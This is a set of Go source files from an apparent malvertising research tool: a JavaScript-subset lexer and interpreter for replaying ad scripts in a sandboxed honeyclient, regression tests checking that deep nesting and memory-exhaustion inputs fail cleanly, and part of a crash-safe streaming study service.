		return fn.Native(in, this, args)
	}
	callEnv := NewEnv(fn.Env)
	callEnv.Define("this", this)
	argsArr := NewArray(args...)
	callEnv.Define("arguments", argsArr)
	for i, p := range fn.Fn.Params {
		if i < len(args) {
			callEnv.Define(p, args[i])
		} else {
			callEnv.Define(p, Undefined{})
		}
	}
	if in.UseVM && fn.Fn.code != nil {
		_, acquired := in.ensureMachine()
		v, c, err := in.runChunk(fn.Fn.code, callEnv)
		if acquired {
			in.releaseMachine()
		}
		if err != nil {
			return nil, err
		}
		if c == ctlReturn {
			return v, nil
		}
		return Undefined{}, nil
	}
	v, c, err := in.execBlock(fn.Fn.Body, callEnv)
	if err != nil {
		return nil, err
	}
	if c == ctlReturn {
		return v, nil
	}
	return Undefined{}, nil
}

func (in *Interp) evalNew(x *NewExpr, env *Env) (Value, error) {
	fnV, err := in.eval(x.Callee, env)
	if err != nil {
		return nil, err
	}
	// Arguments are evaluated before the constructor check (ES EvaluateNew
	// order) — the VM necessarily does the same, and step parity between the
	// engines depends on it.
	args := make([]Value, len(x.Args))
	for i, a := range x.Args {
		args[i], err = in.eval(a, env)
		if err != nil {
			return nil, err
		}
	}
	fn, ok := fnV.(*Object)
	if !ok || !fn.IsFunction() {
		return nil, &ThrowError{Value: "TypeError: not a constructor", Line: x.nodeLine()}
	}
	this := NewObject()
	ret, err := in.callObject(fn, this, args, x.nodeLine())
	if err != nil {
		return nil, err
	}
	// If the constructor returned an object, that wins; otherwise `this`.
	if obj, ok := ret.(*Object); ok {
		return obj, nil
	}
	return this, nil
}

// getMember resolves obj.name including primitive methods on strings,
// numbers, and arrays.
func (in *Interp) getMember(objV Value, name string, line int) (Value, error) {
	switch o := objV.(type) {
	case string:
		return stringMember(o, name), nil
	case float64:
		return numberMember(o, name), nil
	case *Object:
		if o.IsArray {
			if m := arrayMember(o, name); m != nil {
				return m, nil
			}
		}
		v, _ := o.Get(name)
		return v, nil
	case nil, Undefined, Null:
		return nil, &ThrowError{Value: "TypeError: cannot read property '" + name + "' of " + ToString(objV), Line: line}
	}
	return Undefined{}, nil
}

func (in *Interp) getIndex(objV Value, idx Value, line int) (Value, error) {
	switch o := objV.(type) {
	case string:
		if i, ok := idx.(float64); ok {
			n := int(i)
			if n >= 0 && n < len(o) {
				return string(o[n]), nil
			}
			return Undefined{}, nil
		}
		return stringMember(o, ToString(idx)), nil
	case *Object:
		if o.IsArray {
			if n, ok := arrayIndex(idx); ok {
				if n >= 0 && n < len(o.Elems) {
					return o.Elems[n], nil
				}
				return Undefined{}, nil
			}
			if m := arrayMember(o, ToString(idx)); m != nil {
				return m, nil
			}
		}
		return in.getMember(objV, ToString(idx), line)
	case nil, Undefined, Null:
		return nil, &ThrowError{Value: "TypeError: cannot index " + ToString(objV), Line: line}
	}
	return Undefined{}, nil
}

// arrayIndex interprets v as an integer array index. Numeric strings count,
// because for-in yields string keys ("0", "1", ...) that scripts use to
// index back into the array.
func arrayIndex(v Value) (int, bool) {
	switch x := v.(type) {
	case float64:
		if x == math.Trunc(x) && !math.IsInf(x, 0) {
			return int(x), true
		}
	case string:
		if x == "" {
			return 0, false
		}
		n := 0
		for i := 0; i < len(x); i++ {
			if x[i] < '0' || x[i] > '9' {
				return 0, false
			}
			n = n*10 + int(x[i]-'0')
			if n > 1<<30 {
				return 0, false
			}
		}
		return n, true
	}
	return 0, false
}

// parseIntValue implements parseInt semantics for builtins.go.
func parseIntValue(s string, radix int) float64 {
	s = trimLeadingSpace(s)
	sign := 1.0
	if len(s) > 0 && (s[0] == '+' || s[0] == '-') {
		if s[0] == '-' {
			sign = -1
		}
		s = s[1:]
	}
	if radix == 0 {
		if len(s) > 1 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X') {
			radix = 16
			s = s[2:]
		} else {
			radix = 10
		}
	} else if radix == 16 && len(s) > 1 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X') {
		s = s[2:]
	}
	end := 0
	for end < len(s) && digitVal(s[end]) >= 0 && digitVal(s[end]) < radix {
		end++
	}
	if end == 0 {
		return math.NaN()
	}
	n, err := strconv.ParseInt(s[:end], radix, 64)
	if err != nil {
		// Overflow: fall back to float accumulation.
		f := 0.0
		for i := 0; i < end; i++ {
			f = f*float64(radix) + float64(digitVal(s[i]))
		}
		return sign * f
	}
	return sign * float64(n)
}

func digitVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'z':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'Z':
		return int(c-'A') + 10
	}
	return -1
}

func trimLeadingSpace(s string) string {
	for len(s) > 0 && (s[0] == ' ' || s[0] == '\t' || s[0] == '\n' || s[0] == '\r') {
		s = s[1:]
	}
	return s
}
