package minijs

// Regression tests for the sandbox-hardening fixes the fuzz harness forced
// (DESIGN.md §12). Each test crashes, hangs, or exhausts memory against the
// pre-fix interpreter; here they all complete quickly with a clean error (or
// a value) instead.

import (
	"math"
	"strings"
	"testing"
)

// Pre-fix: the recursive-descent parser had no depth guard, so deeply nested
// expressions or blocks exhausted the goroutine stack (fatal, unrecoverable).
func TestParserDepthGuard(t *testing.T) {
	cases := []struct{ name, src string }{
		{"parens", strings.Repeat("(", 100_000) + "1" + strings.Repeat(")", 100_000)},
		{"unary", strings.Repeat("!", 100_000) + "1"},
		{"blocks", strings.Repeat("{", 100_000)},
		{"ternary", strings.Repeat("1?", 100_000) + "1" + strings.Repeat(":1", 100_000)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse(tc.src)
			if err == nil {
				t.Fatal("deeply nested input parsed without error")
			}
			se, ok := err.(*SyntaxError)
			if !ok {
				t.Fatalf("err = %T (%v), want *SyntaxError", err, err)
			}
			if !strings.Contains(se.Msg, "nest") {
				t.Fatalf("err = %v, want nesting-depth message", se)
			}
		})
	}
	// Realistic nesting depths still parse.
	if _, err := Parse(strings.Repeat("(", 100) + "1" + strings.Repeat(")", 100)); err != nil {
		t.Fatalf("depth-100 nesting rejected: %v", err)
	}
}

// Pre-fix: parseFloat looped once per exponent digit-value, so "1e999999999"
// spun for seconds (and overflowed int). The clamp saturates at ±800, past
// which the result is already ±Inf or 0.
func TestExponentClamp(t *testing.T) {
	expectNum(t, `1e999999999`, math.Inf(1))
	expectNum(t, `1e-999999999`, 0)
	expectNum(t, `1e22`, 1e22)
	expectNum(t, `1.5e2`, 150)
}

// Pre-fix: ToString/ToNumber recursed forever on self-referential arrays
// (var a = []; a.push(a)). A revisited array contributes "" to the join,
// matching real Array.prototype.join cycle handling.
func TestCyclicArrayConversion(t *testing.T) {
	expectStr(t, `var a = []; a.push(a); "" + a`, "")
	expectStr(t, `var a = [1, 2]; a.push(a); "" + a`, "1,2,")
	expectNum(t, `var a = []; a.push(a); +a`, 0)
	expectStr(t, `var a = []; var b = [a]; a.push(b); "x" + a`, "x")
}

// Pre-fix: Array(1e9), a[1e9] = 1, and s = s + s in a loop allocated without
// bound. Each now throws a catchable RangeError long before the step budget
// would notice.
func TestAllocationCaps(t *testing.T) {
	cases := []struct{ name, src, want string }{
		{"array ctor", `var r = "no throw"; try { Array(4294967295); } catch (e) { r = "" + e; } r`, "RangeError: invalid array length"},
		{"sparse index", `var a = []; var r = "no throw"; try { a[1000000000] = 1; } catch (e) { r = "" + e; } r`, "RangeError: invalid array length"},
		{"concat doubling", `var s = "x"; var r = "no throw"; try { while (true) { s = s + s; } } catch (e) { r = "" + e; } r`, "RangeError: invalid string length"},
		{"join", `var a = Array(1000000); var r = "no throw"; try { a.join("aaaaaaaaaaaaaaaaaaaa"); } catch (e) { r = "" + e; } r`, "RangeError: invalid string length"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			expectStr(t, tc.src, tc.want)
		})
	}
	// Legitimate sizes still work.
	expectNum(t, `var a = Array(1000); a.length`, 1000)
	expectNum(t, `var a = []; a[4095] = 1; a.length`, 4096)
}
