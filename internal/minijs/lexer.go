// Package minijs implements a lexer, parser, and tree-walking interpreter
// for a JavaScript subset. It is the scripting engine of the emulated
// browser: ad creatives in the simulated web carry scripts in this dialect,
// and the honeyclient (the Wepawet substitute) re-executes them in an
// instrumented environment exactly like the paper's oracle executed real ad
// JavaScript.
//
// The subset covers what ad scripts (benign and malicious) actually use:
// variables, functions and closures, objects and arrays, property access and
// assignment (including host-object traps so `top.location = ...` can be
// observed), control flow, string/array/Math builtins, eval for obfuscated
// payloads, and setTimeout. Execution is metered by a step budget so that
// adversarial scripts cannot hang the crawler.
package minijs

import (
	"fmt"
	"strings"
)

// TokKind classifies lexical tokens.
type TokKind int

// Token kinds.
const (
	TokEOF TokKind = iota
	TokIdent
	TokKeyword
	TokNumber
	TokString
	TokPunct // operators and punctuation
	TokRegex // regular-expression literal: Text is the pattern, Str the flags
)

// Token is one lexical token with its source position (for error messages).
type Token struct {
	Kind TokKind
	Text string
	Num  float64 // valid when Kind == TokNumber
	Str  string  // decoded value when Kind == TokString; flags when TokRegex
	Line int
	Col  int
	// NewlineBefore marks tokens preceded by a line terminator. The parser
	// consults it for JavaScript's restricted productions: `return\nexpr`
	// terminates the return, and a newline suppresses postfix ++/--.
	NewlineBefore bool
}

func (t Token) String() string {
	switch t.Kind {
	case TokEOF:
		return "end of input"
	case TokString:
		return fmt.Sprintf("string %q", t.Str)
	case TokRegex:
		return fmt.Sprintf("regex /%s/%s", t.Text, t.Str)
	default:
		return fmt.Sprintf("%q", t.Text)
	}
}

var keywords = map[string]bool{
	"var": true, "function": true, "return": true, "if": true, "else": true,
	"for": true, "while": true, "do": true, "break": true, "continue": true,
	"true": true, "false": true, "null": true, "undefined": true,
	"new": true, "typeof": true, "delete": true, "in": true, "this": true,
	"throw": true, "try": true, "catch": true, "finally": true, "instanceof": true,
	"switch": true, "case": true, "default": true,
}

// multi-character punctuators, longest first so maximal munch works.
var puncts = []string{
	"===", "!==", ">>>", "<<=", ">>=",
	"==", "!=", "<=", ">=", "&&", "||", "++", "--",
	"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>",
	"+", "-", "*", "/", "%", "=", "<", ">", "!", "~", "?", ":",
	"(", ")", "{", "}", "[", "]", ";", ",", ".", "&", "|", "^",
}

// SyntaxError reports a lexing or parsing failure with position information.
type SyntaxError struct {
	Line, Col int
	Msg       string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("minijs: syntax error at %d:%d: %s", e.Line, e.Col, e.Msg)
}

type lexer struct {
	src  string
	pos  int
	line int
	col  int
	// sawNewline is set when skipSpaceAndComments crossed a line terminator
	// before the token about to be produced.
	sawNewline bool
	// prev is the previous significant token, used to decide whether a '/'
	// starts a regex literal or a division operator.
	prev    Token
	hasPrev bool
	// tolerant makes lexing recover from malformed input (unterminated
	// strings and comments, stray bytes) instead of failing, recording each
	// defect in errs.
	tolerant bool
	errs     []*SyntaxError
}

func newLexer(src string) *lexer {
	return &lexer{src: src, line: 1, col: 1}
}

// Lex tokenizes src completely, returning the tokens (terminated by a TokEOF
// token) or a *SyntaxError.
func Lex(src string) ([]Token, error) {
	lx := newLexer(src)
	var toks []Token
	for {
		tok, err := lx.next()
		if err != nil {
			return nil, err
		}
		toks = append(toks, tok)
		if tok.Kind == TokEOF {
			return toks, nil
		}
	}
}

// LexTolerant tokenizes src, recovering from lexical defects: an
// unterminated string closes at end of line, an unterminated block comment
// runs to end of input, and a byte no token can start is skipped. Every
// recovery is recorded as a *SyntaxError; the token stream is always
// TokEOF-terminated and usable.
func LexTolerant(src string) ([]Token, []*SyntaxError) {
	lx := newLexer(src)
	lx.tolerant = true
	var toks []Token
	for {
		tok, err := lx.next()
		if err != nil {
			// Tolerant mode converts every failure into a recorded error
			// plus forward progress, so next never errors; this is a
			// belt-and-suspenders bail.
			lx.record(err)
			break
		}
		toks = append(toks, tok)
		if tok.Kind == TokEOF {
			break
		}
	}
	if len(toks) == 0 || toks[len(toks)-1].Kind != TokEOF {
		toks = append(toks, Token{Kind: TokEOF, Line: lx.line, Col: lx.col})
	}
	return toks, lx.errs
}

// record notes a recovered lexical error in tolerant mode.
func (lx *lexer) record(err error) {
	if se, ok := err.(*SyntaxError); ok {
		lx.errs = append(lx.errs, se)
		return
	}
	lx.errs = append(lx.errs, &SyntaxError{Line: lx.line, Col: lx.col, Msg: err.Error()})
}

func (lx *lexer) errf(format string, args ...any) error {
	return &SyntaxError{Line: lx.line, Col: lx.col, Msg: fmt.Sprintf(format, args...)}
}

func (lx *lexer) advance(n int) {
	for i := 0; i < n && lx.pos < len(lx.src); i++ {
		if lx.src[lx.pos] == '\n' {
			lx.line++
			lx.col = 1
		} else {
			lx.col++
		}
		lx.pos++
	}
}

func (lx *lexer) skipSpaceAndComments() error {
	for lx.pos < len(lx.src) {
		c := lx.src[lx.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v':
			if c == '\n' {
				lx.sawNewline = true
			}
			lx.advance(1)
		case strings.HasPrefix(lx.src[lx.pos:], "//"):
			for lx.pos < len(lx.src) && lx.src[lx.pos] != '\n' {
				lx.advance(1)
			}
		case strings.HasPrefix(lx.src[lx.pos:], "/*"):
			end := strings.Index(lx.src[lx.pos+2:], "*/")
			if end < 0 {
				if lx.tolerant {
					// Recover: the comment swallows the rest of the input.
					lx.record(lx.errf("unterminated block comment"))
					lx.advance(len(lx.src) - lx.pos)
					return nil
				}
				return lx.errf("unterminated block comment")
			}
			// A multi-line comment counts as a line terminator for ASI.
			if strings.Contains(lx.src[lx.pos:lx.pos+end+4], "\n") {
				lx.sawNewline = true
			}
			lx.advance(end + 4)
		default:
			return nil
		}
	}
	return nil
}

// regexAllowed reports whether a '/' at the current position starts a regex
// literal rather than a division operator, judged from the previous token
// the way real JS lexers do: division can only follow something that ends an
// expression (an identifier, literal, or closing bracket); everywhere else —
// after operators, '(', ',', keywords like return or typeof, or at the start
// of input — '/' opens a regex.
func (lx *lexer) regexAllowed() bool {
	if !lx.hasPrev {
		return true
	}
	switch lx.prev.Kind {
	case TokIdent, TokNumber, TokString, TokRegex:
		return false
	case TokKeyword:
		switch lx.prev.Text {
		case "this", "true", "false", "null", "undefined":
			return false
		}
		return true
	case TokPunct:
		switch lx.prev.Text {
		case ")", "]", "++", "--":
			// After ')' or ']' a '/' divides; after ++/-- we assume the
			// postfix reading (the prefix one could not be followed by a
			// regex in a valid program anyway). '}' is deliberately NOT
			// here: after a block ends, `/re/.test(x)` is a fresh
			// statement, and dividing by an object literal is no-op code.
			return false
		}
		return true
	}
	return true
}

func (lx *lexer) next() (Token, error) {
	tok, err := lx.scan()
	if err != nil {
		return tok, err
	}
	tok.NewlineBefore = lx.sawNewline
	lx.sawNewline = false
	lx.prev = tok
	lx.hasPrev = true
	return tok, nil
}

func (lx *lexer) scan() (Token, error) {
	for {
		if err := lx.skipSpaceAndComments(); err != nil {
			return Token{}, err
		}
		if lx.pos >= len(lx.src) {
			return Token{Kind: TokEOF, Line: lx.line, Col: lx.col}, nil
		}
		line, col := lx.line, lx.col
		c := lx.src[lx.pos]

		switch {
		case isIdentStart(c):
			start := lx.pos
			for lx.pos < len(lx.src) && isIdentPart(lx.src[lx.pos]) {
				lx.advance(1)
			}
			text := lx.src[start:lx.pos]
			kind := TokIdent
			if keywords[text] {
				kind = TokKeyword
			}
			return Token{Kind: kind, Text: text, Line: line, Col: col}, nil

		case c >= '0' && c <= '9' || c == '.' && lx.pos+1 < len(lx.src) && isDigit(lx.src[lx.pos+1]):
			return lx.lexNumber(line, col)

		case c == '"' || c == '\'':
			return lx.lexString(line, col)

		case c == '/' && lx.regexAllowed():
			return lx.lexRegex(line, col)
		}

		for _, p := range puncts {
			if strings.HasPrefix(lx.src[lx.pos:], p) {
				lx.advance(len(p))
				return Token{Kind: TokPunct, Text: p, Line: line, Col: col}, nil
			}
		}
		if lx.tolerant {
			// Recover: skip the byte nothing can start and rescan.
			lx.record(lx.errf("unexpected character %q", c))
			lx.advance(1)
			continue
		}
		return Token{}, lx.errf("unexpected character %q", c)
	}
}

// lexRegex scans /pattern/flags with the '/' as the current byte. Character
// classes ([...]) and backslash escapes hide '/' from terminating the
// literal, like the real grammar.
func (lx *lexer) lexRegex(line, col int) (Token, error) {
	lx.advance(1) // opening '/'
	start := lx.pos
	inClass := false
	for {
		if lx.pos >= len(lx.src) || lx.src[lx.pos] == '\n' {
			if lx.tolerant {
				// Recover: close the regex at end of line.
				lx.record(&SyntaxError{Line: line, Col: col, Msg: "unterminated regular expression"})
				return Token{Kind: TokRegex, Text: lx.src[start:lx.pos], Line: line, Col: col}, nil
			}
			return Token{}, &SyntaxError{Line: line, Col: col, Msg: "unterminated regular expression"}
		}
		c := lx.src[lx.pos]
		if c == '\\' && lx.pos+1 < len(lx.src) && lx.src[lx.pos+1] != '\n' {
			lx.advance(2)
			continue
		}
		switch c {
		case '[':
			inClass = true
		case ']':
			inClass = false
		case '/':
			if !inClass {
				pattern := lx.src[start:lx.pos]
				lx.advance(1) // closing '/'
				fStart := lx.pos
				for lx.pos < len(lx.src) && isIdentPart(lx.src[lx.pos]) {
					lx.advance(1)
				}
				return Token{Kind: TokRegex, Text: pattern, Str: lx.src[fStart:lx.pos], Line: line, Col: col}, nil
			}
		}
		lx.advance(1)
	}
}

func (lx *lexer) lexNumber(line, col int) (Token, error) {
	start := lx.pos
	// Hex literal.
	if strings.HasPrefix(lx.src[lx.pos:], "0x") || strings.HasPrefix(lx.src[lx.pos:], "0X") {
		lx.advance(2)
		digStart := lx.pos
		for lx.pos < len(lx.src) && isHexDigit(lx.src[lx.pos]) {
			lx.advance(1)
		}
		if lx.pos == digStart {
			if lx.tolerant {
				// Recover: "0x" with no digits reads as zero.
				lx.record(lx.errf("malformed hex literal"))
				return Token{Kind: TokNumber, Text: lx.src[start:lx.pos], Num: 0, Line: line, Col: col}, nil
			}
			return Token{}, lx.errf("malformed hex literal")
		}
		var n float64
		for _, d := range lx.src[digStart:lx.pos] {
			n = n*16 + float64(hexVal(byte(d)))
		}
		return Token{Kind: TokNumber, Text: lx.src[start:lx.pos], Num: n, Line: line, Col: col}, nil
	}
	for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
		lx.advance(1)
	}
	if lx.pos < len(lx.src) && lx.src[lx.pos] == '.' {
		lx.advance(1)
		for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
			lx.advance(1)
		}
	}
	mantEnd := lx.pos
	if lx.pos < len(lx.src) && (lx.src[lx.pos] == 'e' || lx.src[lx.pos] == 'E') {
		lx.advance(1)
		if lx.pos < len(lx.src) && (lx.src[lx.pos] == '+' || lx.src[lx.pos] == '-') {
			lx.advance(1)
		}
		expStart := lx.pos
		for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
			lx.advance(1)
		}
		if lx.pos == expStart {
			if lx.tolerant {
				// Recover: drop the dangling exponent marker; the mantissa
				// digits stand alone as the number.
				lx.record(lx.errf("malformed exponent"))
				text := lx.src[start:mantEnd]
				n, _ := parseFloat(text)
				return Token{Kind: TokNumber, Text: text, Num: n, Line: line, Col: col}, nil
			}
			return Token{}, lx.errf("malformed exponent")
		}
	}
	text := lx.src[start:lx.pos]
	n, err := parseFloat(text)
	if err != nil {
		if lx.tolerant {
			lx.record(lx.errf("malformed number %q", text))
			return Token{Kind: TokNumber, Text: text, Num: 0, Line: line, Col: col}, nil
		}
		return Token{}, lx.errf("malformed number %q", text)
	}
	return Token{Kind: TokNumber, Text: text, Num: n, Line: line, Col: col}, nil
}

func (lx *lexer) lexString(line, col int) (Token, error) {
	quote := lx.src[lx.pos]
	lx.advance(1)
	var b strings.Builder
	for {
		if lx.pos >= len(lx.src) {
			if lx.tolerant {
				// Recover: the string closes at end of input.
				lx.record(&SyntaxError{Line: line, Col: col, Msg: "unterminated string"})
				return Token{Kind: TokString, Text: b.String(), Str: b.String(), Line: line, Col: col}, nil
			}
			return Token{}, lx.errf("unterminated string")
		}
		c := lx.src[lx.pos]
		if c == quote {
			lx.advance(1)
			return Token{Kind: TokString, Text: b.String(), Str: b.String(), Line: line, Col: col}, nil
		}
		if c == '\n' {
			if lx.tolerant {
				// Recover: the string closes at the line break (the newline
				// itself stays in the input so ASI still sees it).
				lx.record(&SyntaxError{Line: line, Col: col, Msg: "newline in string literal"})
				return Token{Kind: TokString, Text: b.String(), Str: b.String(), Line: line, Col: col}, nil
			}
			return Token{}, lx.errf("newline in string literal")
		}
		if c != '\\' {
			b.WriteByte(c)
			lx.advance(1)
			continue
		}
		// Escape sequence.
		lx.advance(1)
		if lx.pos >= len(lx.src) {
			if lx.tolerant {
				lx.record(&SyntaxError{Line: line, Col: col, Msg: "unterminated escape"})
				return Token{Kind: TokString, Text: b.String(), Str: b.String(), Line: line, Col: col}, nil
			}
			return Token{}, lx.errf("unterminated escape")
		}
		e := lx.src[lx.pos]
		switch e {
		case 'n':
			b.WriteByte('\n')
			lx.advance(1)
		case 't':
			b.WriteByte('\t')
			lx.advance(1)
		case 'r':
			b.WriteByte('\r')
			lx.advance(1)
		case '0':
			b.WriteByte(0)
			lx.advance(1)
		case 'b':
			b.WriteByte('\b')
			lx.advance(1)
		case 'f':
			b.WriteByte('\f')
			lx.advance(1)
		case 'v':
			b.WriteByte('\v')
			lx.advance(1)
		case 'x':
			if lx.pos+2 >= len(lx.src) || !isHexDigit(lx.src[lx.pos+1]) || !isHexDigit(lx.src[lx.pos+2]) {
				if lx.tolerant {
					// Recover: treat as a literal 'x' (the escape consumed
					// the backslash already).
					lx.record(lx.errf("malformed \\x escape"))
					b.WriteByte('x')
					lx.advance(1)
					continue
				}
				return Token{}, lx.errf("malformed \\x escape")
			}
			b.WriteByte(byte(hexVal(lx.src[lx.pos+1])<<4 | hexVal(lx.src[lx.pos+2])))
			lx.advance(3)
		case 'u':
			bad := lx.pos+4 >= len(lx.src)
			v := 0
			if !bad {
				for i := 1; i <= 4; i++ {
					d := lx.src[lx.pos+i]
					if !isHexDigit(d) {
						bad = true
						break
					}
					v = v<<4 | hexVal(d)
				}
			}
			if bad {
				if lx.tolerant {
					lx.record(lx.errf("malformed \\u escape"))
					b.WriteByte('u')
					lx.advance(1)
					continue
				}
				return Token{}, lx.errf("malformed \\u escape")
			}
			b.WriteRune(rune(v))
			lx.advance(5)
		default:
			// Unknown escapes pass the character through, like JS.
			b.WriteByte(e)
			lx.advance(1)
		}
	}
}

func isIdentStart(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c == '_' || c == '$'
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isHexDigit(c byte) bool {
	return isDigit(c) || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}

func hexVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	default:
		return int(c-'A') + 10
	}
}

// parseFloat is a minimal decimal float parser sufficient for JS number
// literals (digits, fraction, exponent). It avoids strconv's extra
// allocation in the hot lexing path and keeps behaviour explicit.
func parseFloat(s string) (float64, error) {
	var mant float64
	i := 0
	for i < len(s) && isDigit(s[i]) {
		mant = mant*10 + float64(s[i]-'0')
		i++
	}
	if i < len(s) && s[i] == '.' {
		i++
		frac := 0.1
		for i < len(s) && isDigit(s[i]) {
			mant += float64(s[i]-'0') * frac
			frac /= 10
			i++
		}
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		sign := 1
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			if s[i] == '-' {
				sign = -1
			}
			i++
		}
		exp := 0
		for i < len(s) && isDigit(s[i]) {
			exp = exp*10 + int(s[i]-'0')
			// Beyond ±800 every float64 has saturated to Inf, 0, or stays
			// there; clamping also keeps a literal like 1e999999999 from
			// spinning the scaling loop for seconds (and exp from
			// overflowing int).
			if exp > 800 {
				exp = 800
			}
			i++
		}
		for e := 0; e < exp; e++ {
			if sign > 0 {
				mant *= 10
			} else {
				mant /= 10
			}
		}
	}
	if i != len(s) {
		return 0, fmt.Errorf("trailing characters in number")
	}
	return mant, nil
}
