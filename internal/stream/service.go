package stream

import (
	"context"
	"encoding/json"
	"fmt"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"madave/internal/core"
	"madave/internal/crawler"
	"madave/internal/journal"
	"madave/internal/stats"
	"madave/internal/telemetry"
	"madave/internal/webgen"
)

// ServiceConfig parameterizes the streaming study service.
type ServiceConfig struct {
	// Stream configures the supervised stage runtime.
	Stream Config
	// Journal is the crash-safety backend (required). Appends to it are the
	// commit points; its replay is the recovery path.
	Journal journal.Backend
	// CheckpointEvery compacts the journal to one checkpoint record after
	// that many commits (0 = DefaultCheckpointEvery, negative = never).
	// Compaction requires the backend to implement journal.Compactor;
	// otherwise checkpoints are skipped silently-but-countedly
	// (stream_checkpoint_skipped_total).
	CheckpointEvery int
	// CrawlWorkers and AnalyzeWorkers size the two processing pools
	// (0 = the study's crawl parallelism / oracle parallelism).
	CrawlWorkers   int
	AnalyzeWorkers int
	// Serve switches from the finite deterministic visit schedule to an
	// open-ended impression stream: sites are Zipf-sampled by rank and
	// admitted through the priority shedder, modelling a service that must
	// survive overload rather than a batch job that must finish.
	Serve bool
	// MaxImpressions bounds the serve-mode stream (0 = DefaultMaxImpressions).
	MaxImpressions int
	// ShedCapacity is the serve-mode admission buffer (0 = 2× queue size).
	ShedCapacity int
	// ServeRate paces the serve-mode impression source to roughly this many
	// offers per second (0 = as fast as the source loop runs). Serve mode is
	// inherently timing-dependent — shedding depends on how fast the pipeline
	// drains — so pacing the source is an operational knob, not a determinism
	// hazard; the finite schedule mode ignores it.
	ServeRate float64
}

// Defaults for ServiceConfig zero fields.
const (
	DefaultCheckpointEvery = 256
	DefaultMaxImpressions  = 4096
)

// Ops are the operational (non-deterministic) counters of one Run: they
// describe how the service behaved — restarts, sheds, recovery — and are
// deliberately excluded from the deterministic StreamSummary.
type Ops struct {
	Recovered   int64     // records replayed from the journal before this run
	Committed   int64     // records appended by this run
	Aborted     int64     // outcomes cut off mid-flight (never journaled)
	Checkpoints int64     // journal compactions performed
	Restarts    int64     // supervised worker restarts (panics + wedges)
	Shed        ShedStats // admission accounting (serve mode)
}

// RunResult bundles one Run's deterministic summary with its operational
// story. Graph is the flow-graph oracle's separate aggregate (all zero when
// the graph oracle is off); keeping it beside Summary preserves the
// canonical StreamSummary bytes graph-on or graph-off.
type RunResult struct {
	Summary StreamSummary
	Graph   GraphSummary
	Ops     Ops
}

// Service lifecycle phases, as exposed to the ops plane. The readiness and
// health predicates derive from these: a service is ready while replay is
// complete and the stream is (or is about to be) running, and unhealthy only
// once it has failed (restart-budget exhaustion, journal failure).
const (
	PhaseInit      = "init"
	PhaseReplaying = "replaying"
	PhaseReady     = "ready"
	PhaseRunning   = "running"
	PhaseStopped   = "stopped"
	PhaseFailed    = "failed"
)

// Service is the crash-safe streaming study: crawl → classify → commit over
// supervised stages, journaling every completed visit so a killed process
// resumes mid-stream with byte-identical final statistics.
type Service struct {
	study *core.Study
	cfg   ServiceConfig
	cr    *crawler.Crawler
	agg   *Agg
	log   *journal.Log
	tel   *telemetry.Set

	recovered int64

	phase atomic.Value // string, one of the Phase* constants

	// Live run state the ops plane samples; nil outside Run.
	liveMu sync.Mutex
	pipe   *Pipeline
	shed   *Shedder[seqVisit]
}

func (s *Service) setPhase(ph string) { s.phase.Store(ph) }

// Phase returns the service's current lifecycle phase.
func (s *Service) Phase() string {
	if ph, ok := s.phase.Load().(string); ok {
		return ph
	}
	return PhaseInit
}

// Ready reports whether the service can do useful work: journal replay is
// complete and the stream is running (or built and about to run). This is
// the /readyz predicate.
func (s *Service) Ready() bool {
	ph := s.Phase()
	return ph == PhaseReady || ph == PhaseRunning
}

// Healthy reports whether the service has not failed. A stopped service is
// still healthy (it finished its work); a failed one — restart budget
// exhausted, journal unable to persist — is not. This is the /healthz
// predicate.
func (s *Service) Healthy() bool { return s.Phase() != PhaseFailed }

// ServiceStatus is the ops plane's sampled view of the whole service:
// lifecycle phase, commit progress, per-stage watermarks, admission
// accounting, and the running per-network malvertising table. Sampling it
// never perturbs the stream.
type ServiceStatus struct {
	Phase       string        `json:"phase"`
	Recovered   int64         `json:"recovered"`
	Committed   int64         `json:"committed"`
	Aborted     int64         `json:"aborted"`
	Checkpoints int64         `json:"checkpoints"`
	Stages      []StageStatus `json:"stages,omitempty"`
	Shed        *ShedStats    `json:"shed,omitempty"`
	MalNets     []stats.KV    `json:"mal_networks,omitempty"`
}

// Status samples the live service state at now.
func (s *Service) Status(now time.Time) ServiceStatus {
	st := ServiceStatus{
		Phase:     s.Phase(),
		Recovered: s.recovered,
		MalNets:   s.agg.MalNetworks(),
	}
	if v, ok := s.tel.Registry.CounterValue("stream_committed_total"); ok {
		st.Committed = v
	}
	if v, ok := s.tel.Registry.CounterValue("stream_aborted_total"); ok {
		st.Aborted = v
	}
	if v, ok := s.tel.Registry.CounterValue("stream_checkpoints_total"); ok {
		st.Checkpoints = v
	}
	s.liveMu.Lock()
	pipe, shed := s.pipe, s.shed
	s.liveMu.Unlock()
	if pipe != nil {
		st.Stages = pipe.StageStatuses(now)
	}
	if shed != nil {
		sh := shed.Stats()
		st.Shed = &sh
	}
	return st
}

// seqVisit is a scheduled visit with its journal sequence number.
type seqVisit struct {
	seq int64
	v   crawler.Visit
}

// visitOut is the crawl stage's output: the hermetic outcome, or an abort
// marker when the worker was cut off.
type visitOut struct {
	seq     int64
	key     string
	out     *crawler.VisitOutcome
	aborted bool
	cause   string
}

// NewService assembles the streaming service around an existing study and
// recovers whatever the journal already holds: checkpoint state is restored,
